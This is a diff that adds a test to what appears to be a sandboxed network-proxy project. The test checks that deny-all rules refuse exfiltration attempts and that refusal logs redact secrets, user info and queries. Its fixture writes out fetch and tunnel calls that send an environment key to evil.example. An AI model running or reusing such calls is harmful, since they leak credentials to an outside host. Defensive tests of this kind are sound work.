@@ -879,6 +879,27 @@ async def test_only_listed_hosts_are_reached_and_only_through_the_door(
     assert [row["layer"] for row in held["rules"] if row["rule"] == "allow_network"] == ["os"]
 
 
+async def test_what_the_door_refused_is_told_without_secrets_users_and_queries(
+    found: Probe, backplane_home: Path, root: Path, tmp_path: Path
+) -> None:
+    key = "sk-Zq8Xw71LmNp0RtUvYb3C"
+    plane = control(backplane_home, found)
+    host = surfer(
+        tmp_path / "bin",
+        "[fetch('http://evil.example/?key=' + os.environ['MYKEY']), tunnel(os.environ['MYKEY'] + '.evil.example:443'),"
+        " fetch('http://evil.example/' + os.environ['MYKEY']), fetch('http://evil.example/way?other=words#there'),"
+        " tunnel('user:other-words@evil.example:443')]",
+    )
+    members: dict[str, Any] = {"config": RuntimeConfig(env={"MYKEY": key}), "policy": policy(deny_network=("**",))}
+    async with plane:
+        run, _ = await go(plane, order(root, mode="pass_through", **members), host)
+    assert run.receipt is not None
+    network = run.receipt.backplane["network"]
+    assert network["denied"] == 5
+    assert any("/way'" in reason for reason in network["refusals"])
+    assert not any(key in reason or "other" in reason for reason in network["refusals"])
+
+
 async def test_without_a_namespace_only_the_proxy_can_be_reached_and_the_rest_is_said(
     found: Probe, backplane_home: Path, root: Path, tmp_path: Path
 ) -> None:
